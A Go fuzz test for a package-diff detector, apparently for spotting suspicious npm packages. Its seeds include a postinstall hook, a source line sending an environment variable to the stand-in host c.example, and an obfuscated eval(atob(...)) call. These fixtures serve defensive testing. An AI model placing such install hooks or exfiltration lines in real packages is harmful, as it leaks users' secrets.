package diff_test

import (
	"testing"

	"taisei/detect/diff"
)

// FuzzSame holds that a version beside itself has nothing new, and that comparing
// with nothing and with another does no harm.
func FuzzSame(f *testing.F) {
	f.Add(`{"name":"p","version":"1.0.0","main":"index.min.js","scripts":{"postinstall":"node index.js"},"dependencies":{"a":"1"}}`, "require('https').get('https://c.example/?'+process.env.X)", "eval(atob('Y29uc29sZS5sb2coJ2hlbGxvIGZyb20gYSBsYXllcicpOw=='))")
	f.Add(`{`, "", "!function(){var a=\"75d4c87f3f69e0fa\";b.ccc.ddd(a)}()")
	f.Fuzz(func(t *testing.T, manifest, source, minified string) {
		e := examine(t, "x", map[string]string{"package.json": manifest, "index.js": source, "index.min.js": minified})
		r := diff.Compare(e, e, diff.Dependency{Name: "d", Examination: e})
		for _, c := range r.Changes {
			if c.Kind != diff.Stands && c.Target == "" {
				t.Errorf("%+v", c)
			}
		}
		nothing := examine(t, "y", map[string]string{"package.json": "{}"})
		if back := diff.Compare(e, nothing); len(back.Changes) != 0 {
			t.Errorf("%+v", back.Changes)
		}
		_ = diff.Compare(nothing, e)
	})
}
